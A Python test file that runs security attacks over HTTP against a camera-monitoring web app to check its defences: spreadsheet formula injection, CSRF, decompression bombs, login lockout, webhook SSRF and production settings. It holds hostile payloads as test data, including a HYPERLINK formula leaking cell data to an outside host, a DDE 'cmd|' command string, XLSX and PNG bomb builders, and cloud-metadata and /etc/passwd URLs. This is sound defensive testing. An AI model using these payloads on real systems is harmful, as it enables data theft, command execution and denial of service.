"""Issue 10, findings 4-12: each attack performed over HTTP against the app (docs/security.md)."""

from __future__ import annotations

import csv
import io
import time
import zipfile
import zlib
from statistics import median

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from pydantic import ValidationError
from sqlalchemy import select

from api.app import create_app
from api.deps import SESSION_COOKIE
from api.web.csrf import csrf_token
from monitor.core.cells import FORMULA_STARTS
from monitor.core.db import Database
from monitor.core.models import AuditEntry, Ticket, TicketEvent
from monitor.core.settings import Settings
from tests.api.conftest import auth
from tests.movement_data import ensure_builtin_types
from tests.registry_data import PASSWORD, Seed

HOSTILE = '=HYPERLINK("http://127.95.0.9/x?"&A1,"Bấm vào đây")'


def _formula_like(data: bytes) -> list[str]:
    """Every cell of a workbook that is a formula or a text a spreadsheet would take for one."""
    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value if isinstance(cell.value, str) else ""
                if cell.data_type == "f" or text.startswith(FORMULA_STARTS):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def _texts(data: bytes) -> set[str]:
    book = load_workbook(io.BytesIO(data))
    return {c.value for s in book.worksheets for r in s.iter_rows() for c in r if c.value}


# --- 4. formula injection --------------------------------------------------------------------


def test_exports_write_hostile_names_as_inert_text(client: TestClient, seed: Seed) -> None:
    tech = auth(seed, "technician")
    changed = {"name": HOSTILE, "address": "@SUM(1+1)*cmd|' /C calc'!A0"}
    assert client.patch("/api/v1/cameras/ST-0001", json=changed, headers=tech).status_code == 200

    exported = client.get("/api/v1/cameras/export?format=csv", headers=tech)
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [cell for row in rows for cell in row if HOSTILE in cell] == ["'" + HOSTILE]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]

    book = client.get("/api/v1/cameras/export?format=xlsx", headers=tech).content
    assert _formula_like(book) == []
    assert "'" + HOSTILE in _texts(book)

    # The outage filter typed in the URL is written on the export's second sheet.
    outages = client.get(
        "/api/v1/outages/export", params={"format": "xlsx", "camera": "-2+3+cmd|' /C calc'!A0"}
    )
    assert outages.status_code == 401  # bearer only
    outages = client.get(
        "/api/v1/outages/export",
        params={"format": "xlsx", "camera": "-2+3+cmd|' /C calc'!A0"},
        headers=tech,
    )
    assert outages.status_code == 200
    assert _formula_like(outages.content) == []
    assert "'-2+3+cmd|' /C calc'!A0" in _texts(outages.content)

    period = time.strftime("%Y-%m")
    report = client.get(
        "/api/v1/reports/availability/export", params={"period": period}, headers=tech
    )
    assert report.status_code == 200
    assert _formula_like(report.content) == []
    assert "'" + HOSTILE in _texts(report.content)


def test_movement_report_export_writes_hostile_names_as_text(
    client: TestClient, seed: Seed
) -> None:
    ensure_builtin_types(client.app.state.db)
    tech = auth(seed, "technician")
    body = {
        "code": "MM-EVIL",
        "type_code": "camera-an-ninh",
        "name": HOSTILE,
        "unit_name": "+SUM(A1:A9)",
        "area_code": "ST-TP-1",
    }
    assert client.post("/api/v1/movement/instances", json=body, headers=tech).status_code == 201
    book = client.get("/api/v1/movement/report/export?format=xlsx", headers=tech)
    assert book.status_code == 200
    assert _formula_like(book.content) == []
    assert "'" + HOSTILE in _texts(book.content)


def test_exported_registry_imports_back_unchanged(client: TestClient, seed: Seed) -> None:
    tech = auth(seed, "technician")
    client.patch("/api/v1/cameras/ST-0001", json={"name": HOSTILE}, headers=tech)
    for fmt in ("csv", "xlsx"):
        data = client.get(f"/api/v1/cameras/export?format={fmt}", headers=tech).content
        files = {"file": (f"cameras.{fmt}", data)}
        answer = client.post("/api/v1/cameras/import", files=files, headers=tech)
        assert answer.status_code == 200, answer.text
        assert answer.json()["updated"] == 0 and answer.json()["created"] == 0
        camera = client.get("/api/v1/cameras/ST-0001", headers=tech).json()
        assert camera["name"] == HOSTILE  # the apostrophe came off again


# --- 5. CSRF and the API's bearer-only rule --------------------------------------------------


def _comments(database: Database, ticket_id: int) -> list[str]:
    with database.session() as s:
        rows = s.scalars(
            select(TicketEvent).where(
                TicketEvent.ticket_id == ticket_id, TicketEvent.action == "comment"
            )
        )
        return [e.comment for e in rows]


def test_cookie_post_without_the_session_token_changes_nothing(
    client: TestClient, seed: Seed, settings: Settings, database: Database
) -> None:
    ticket = seed.ticket_ids["st_ticket"]
    session_token = seed.tokens["technician"]
    with TestClient(client.app, follow_redirects=False) as raw:  # no CSRF hook: a forged form
        raw.cookies.set(SESSION_COOKIE, session_token)
        forged = raw.post(f"/tickets/{ticket}/comment", data={"comment": "forged"})
        assert forged.status_code == 403
        wrong = {"comment": "forged", "csrf_token": csrf_token(settings, seed.tokens["crew"])}
        assert raw.post(f"/tickets/{ticket}/comment", data=wrong).status_code == 403
        # Right token, but the browser says the form is on another port of the same host.
        good = {"comment": "from the page", "csrf_token": csrf_token(settings, session_token)}
        other_port = {"Origin": "http://testserver:8081"}
        assert (
            raw.post(f"/tickets/{ticket}/comment", data=good, headers=other_port).status_code == 403
        )
        assert "forged" not in _comments(database, ticket)
        # The page's own form: token and same origin.
        same = {"Origin": "http://testserver"}
        assert raw.post(f"/tickets/{ticket}/comment", data=good, headers=same).status_code == 303
    assert _comments(database, ticket) == ["from the page"]


def test_the_form_carries_the_token_the_guard_expects(
    client: TestClient, seed: Seed, settings: Settings
) -> None:
    ticket = seed.ticket_ids["st_ticket"]
    client.cookies.set(SESSION_COOKIE, seed.tokens["technician"])
    page = client.get(f"/tickets/{ticket}").text
    expected = csrf_token(settings, seed.tokens["technician"])
    assert page.count(f'name="csrf_token" value="{expected}"') >= 3  # state, comment, logout


def test_the_api_ignores_the_session_cookie(client: TestClient, seed: Seed) -> None:
    ticket = seed.ticket_ids["st_ticket"]
    with TestClient(client.app) as raw:
        raw.cookies.set(SESSION_COOKIE, seed.tokens["technician"])
        assert raw.get("/api/v1/cameras").status_code == 401
        comment = raw.post(f"/api/v1/tickets/{ticket}/comments", json={"comment": "forged"})
        assert comment.status_code == 401
        # ... and the pages' own download links still work with the cookie.
        assert raw.get("/outages/export?format=csv").status_code == 200


# --- 6 and 7. bodies, decompression bombs ----------------------------------------------------


def test_oversized_json_body_is_refused_before_parsing(client: TestClient, seed: Seed) -> None:
    tech = auth(seed, "technician")
    body = b'{"name": "' + b"x" * (2 * 1024 * 1024) + b'"}'
    answer = client.patch(
        "/api/v1/cameras/ST-0001",
        content=body,
        headers={**tech, "Content-Type": "application/json"},
    )
    assert answer.status_code == 413
    assert len(answer.content) < 200


def test_upload_without_a_token_is_refused_before_its_body(client: TestClient) -> None:
    # 40 MB is under the import cap: only the missing token refuses it.
    files = {"file": ("cameras.csv", b"x" * (40 * 1024 * 1024))}
    answer = client.post("/api/v1/cameras/import", files=files)
    assert answer.status_code == 401


def _bomb_xlsx(rows: int) -> bytes:
    """A tiny XLSX whose sheet unzips to `rows` rows of ~100 bytes each."""
    workbook = Workbook()
    workbook.active.append(["Mã camera", "Tên camera"])
    out = io.BytesIO()
    workbook.save(out)
    source = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item, source.read(item))
                continue
            with target.open(item.filename, "w", force_zip64=True) as sheet:
                sheet.write(
                    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                    b'main"><sheetData>'
                )
                row = b'<row><c t="inlineStr"><is><t>' + b"A" * 60 + b"</t></is></c></row>"
                for _ in range(rows // 1000):
                    sheet.write(row * 1000)
                sheet.write(b"</sheetData></worksheet>")
    return bomb.getvalue()


def test_xlsx_bomb_is_refused_from_its_zip_directory(client: TestClient, seed: Seed) -> None:
    bomb = _bomb_xlsx(2_000_000)  # ~1 MB on the wire, ~190 MB unzipped
    assert len(bomb) < 2 * 1024 * 1024
    files = {"file": ("cameras.xlsx", bomb)}
    answer = client.post("/api/v1/cameras/import", files=files, headers=auth(seed, "technician"))
    assert answer.status_code == 422
    assert "unpacks to more than" in answer.text and len(answer.content) < 2000


def test_a_sheet_with_one_far_away_cell_is_refused(client: TestClient, seed: Seed) -> None:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(["Mã camera"])
    sheet["A1048576"] = "x"  # openpyxl would hand out a million empty rows on the way
    out = io.BytesIO()
    workbook.save(out)
    files = {"file": ("cameras.xlsx", out.getvalue())}
    answer = client.post("/api/v1/cameras/import", files=files, headers=auth(seed, "technician"))
    assert answer.status_code == 422 and "more than 100000 rows" in answer.text


def test_the_422_never_echoes_a_huge_header(client: TestClient, seed: Seed) -> None:
    header = "Z" * 3_000
    data = ("Mã camera," + ",".join(f"{header}{i}" for i in range(150)) + "\nX-1\n").encode()
    files = {"file": ("cameras.csv", data)}
    answer = client.post("/api/v1/cameras/import", files=files, headers=auth(seed, "technician"))
    assert answer.status_code == 422
    assert len(answer.content) < 100_000  # the file is 450 KB of header
    problems = answer.json()["problems"]
    assert all(len(p["column"]) <= 200 for p in problems)


def _png_header_bomb(width: int, height: int) -> bytes:
    """A valid PNG of black pixels: small on the wire, width*height*3 bytes decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return len(data).to_bytes(4, "big") + body + zlib.crc32(body).to_bytes(4, "big")

    compressor = zlib.compressobj(9)
    line = b"\x00" + b"\x00" * (width * 3)
    idat = b"".join(compressor.compress(line) for _ in range(height)) + compressor.flush()
    ihdr = width.to_bytes(4, "big") + height.to_bytes(4, "big") + b"\x08\x02\x00\x00\x00"
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def test_a_reference_image_declaring_too_many_pixels_is_not_decoded(
    client: TestClient, seed: Seed
) -> None:
    bomb = _png_header_bomb(8000, 8000)  # 192 MB decoded, under 1 MB sent
    assert len(bomb) < 1024 * 1024
    tech = auth(seed, "technician")
    files = {"file": ("view.png", bomb, "image/png")}
    answer = client.put("/api/v1/cameras/ST-0001/reference", files=files, headers=tech)
    assert answer.status_code == 422 and "8000 x 8000" in answer.text
    assert client.get("/api/v1/cameras/ST-0001/reference", headers=tech).status_code == 404


# --- 8. login ---------------------------------------------------------------------------------


def _login(client: TestClient, username: str, password: str) -> int:
    body = {"username": username, "password": password}
    return client.post("/api/v1/auth/login", json=body).status_code


def test_repeated_wrong_passwords_lock_the_user_and_are_audited(
    client: TestClient, seed: Seed, database: Database
) -> None:
    assert [_login(client, "police1", f"guess-{i}") for i in range(5)] == [401] * 5
    assert _login(client, "police1", PASSWORD) == 429  # the right one, too late
    form = client.post("/login", data={"username": "police1", "password": PASSWORD})
    assert form.status_code == 429 and 'id="login-locked"' in form.text
    assert "Đăng nhập sai quá nhiều lần" in form.text
    with database.session() as s:
        actions = [e.action for e in s.scalars(select(AuditEntry).order_by(AuditEntry.id))]
    assert actions.count("login_failed") == 5 and actions.count("login_locked") == 1
    assert "login" not in actions


def test_one_address_guessing_many_users_is_locked(client: TestClient, seed: Seed) -> None:
    for i in range(20):
        assert _login(client, f"nobody{i}", "guess") == 401
    assert _login(client, "police1", PASSWORD) == 429


def test_unknown_users_answer_as_slowly_as_known_ones(client: TestClient, seed: Seed) -> None:
    # A timing attack: a relative comparison of the same request on two usernames, interleaved.
    app = create_app(client.app.state.settings, client.app.state.db)
    app.state.login_throttle.per_user = app.state.login_throttle.per_address = 1000
    known, unknown = [], []
    with TestClient(app) as fresh:
        for i in range(6):
            for name, times in (("police1", known), (f"ghost{i}", unknown)):
                start = time.perf_counter()
                assert _login(fresh, name, "wrong password") == 401
                times.append(time.perf_counter() - start)
    assert median(unknown) > 0.6 * median(known)


# --- 9. password change -----------------------------------------------------------------------


def test_an_admin_setting_a_password_ends_the_users_sessions_and_tokens(
    client: TestClient, seed: Seed
) -> None:
    police = auth(seed, "police")
    session = client.post(
        "/api/v1/auth/login", json={"username": "police1", "password": PASSWORD}
    ).json()["token"]
    change = {"password": "a new long password"}
    user_id = seed.user_ids["police"]
    patched = client.patch(f"/api/v1/users/{user_id}", json=change, headers=auth(seed, "admin"))
    assert patched.status_code == 200
    assert client.get("/api/v1/auth/me", headers=police).status_code == 401
    with TestClient(client.app, follow_redirects=False) as page:
        page.cookies.set(SESSION_COOKIE, session)
        assert page.get("/outages").status_code == 303  # back to the login page
    assert _login(client, "police1", "a new long password") == 200


def test_changing_your_own_password_ends_your_other_sessions(
    client: TestClient, seed: Seed
) -> None:
    first = client.post("/api/v1/auth/login", json={"username": "police1", "password": PASSWORD})
    other = {"Authorization": f"Bearer {first.json()['token']}"}
    mine = auth(seed, "police")
    wrong = {"current_password": "not it", "new_password": "another long one"}
    assert client.post("/api/v1/auth/password", json=wrong, headers=mine).status_code == 403
    body = {"current_password": PASSWORD, "new_password": "another long one"}
    assert client.post("/api/v1/auth/password", json=body, headers=mine).status_code == 204
    assert client.get("/api/v1/auth/me", headers=other).status_code == 401
    assert client.get("/api/v1/auth/me", headers=mine).status_code == 200  # the one that asked


# --- 10. webhook destinations -----------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "http://hooks.example.org/camwatch",  # clear text
        "https://10.20.30.40/hook",  # into the camera networks
        "https://127.0.0.1:9/hook",  # this machine
        "https://169.254.169.254/latest/meta-data",  # a cloud metadata service
        "file:///etc/passwd",
    ],
)
def test_webhook_destinations_outside_the_rule_are_refused(
    database: Database, settings: Settings, seed: Seed, url: str
) -> None:
    strict = settings.model_copy(update={"webhook_allowed_hosts": []})
    with TestClient(create_app(strict, database)) as strict_client:
        body = {"name": "Tổ mới", "webhook_url": url}
        answer = strict_client.post("/api/v1/crews", json=body, headers=auth(seed, "technician"))
    assert answer.status_code == 422, answer.text


def test_webhook_urls_are_shown_to_editors_only(client: TestClient, seed: Seed) -> None:
    url = "https://hooks.example.org/camwatch?token=crew-secret"
    crew = seed.crew_ids["st"]
    admin = auth(seed, "admin")
    assert client.patch(
        f"/api/v1/crews/{crew}", json={"webhook_url": url}, headers=admin
    ).is_success
    for role, shown in (("admin", url), ("technician", url), ("police", None), ("crew", None)):
        one = client.get(f"/api/v1/crews/{crew}", headers=auth(seed, role)).json()
        listed = client.get("/api/v1/crews", headers=auth(seed, role)).json()["items"]
        assert one["webhook_url"] == shown, role
        assert [c["webhook_url"] for c in listed if c["id"] == crew] == [shown], role


# --- 11 and 12. metrics and cookies in production ----------------------------------------------


def _production(**changes: object) -> Settings:
    values: dict[str, object] = {
        "environment": "production",
        "secret_key": "p" * 40,
        "public_url": "http://camwatch.internal:8080",
        "_env_file": None,
    }
    values.update(changes)
    return Settings(**values)


def test_production_refuses_to_start_with_open_metrics() -> None:
    with pytest.raises(ValidationError, match="CAMWATCH_METRICS_TOKEN"):
        _production()
    assert _production(metrics_open=True).metrics_token is None  # said explicitly


def test_production_metrics_need_the_token(database: Database, seed: Seed) -> None:
    settings = _production(metrics_token="m" * 24, database_url=database.url)
    with TestClient(create_app(settings, database)) as prod:
        assert prod.get("/metrics").status_code == 401
        scraped = prod.get("/metrics", headers={"Authorization": "Bearer " + "m" * 24})
        assert scraped.status_code == 200 and "camwatch_" in scraped.text


def test_production_session_cookie_is_secure_even_with_an_http_public_url(
    database: Database, seed: Seed
) -> None:
    settings = _production(metrics_open=True, database_url=database.url)
    with TestClient(create_app(settings, database), follow_redirects=False) as prod:
        answer = prod.post("/login", data={"username": "police1", "password": PASSWORD})
    assert answer.status_code == 303
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith(f"{SESSION_COOKIE}=") and "secure" in cookie.lower()
    assert "httponly" in cookie.lower() and "samesite=lax" in cookie.lower()


def test_ticket_state_is_untouched_by_a_forged_state_form(
    client: TestClient, seed: Seed, database: Database
) -> None:
    ticket = seed.ticket_ids["st_ticket"]
    with database.session() as s:
        before = s.get(Ticket, ticket).state
    with TestClient(client.app, follow_redirects=False) as raw:
        raw.cookies.set(SESSION_COOKIE, seed.tokens["technician"])
        forged = raw.post(f"/tickets/{ticket}/state", data={"to_state": "closed"})
    assert forged.status_code == 403
    with database.session() as s:
        assert s.get(Ticket, ticket).state == before


def test_a_form_flooded_with_fields_is_refused_not_crashed(client: TestClient, seed: Seed) -> None:
    ticket = seed.ticket_ids["st_ticket"]
    flood = "&".join(f"f{i}=x" for i in range(5000))
    with TestClient(client.app, follow_redirects=False) as raw:
        raw.cookies.set(SESSION_COOKIE, seed.tokens["technician"])
        answer = raw.post(
            f"/tickets/{ticket}/comment",
            content=flood,
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
    assert answer.status_code == 403
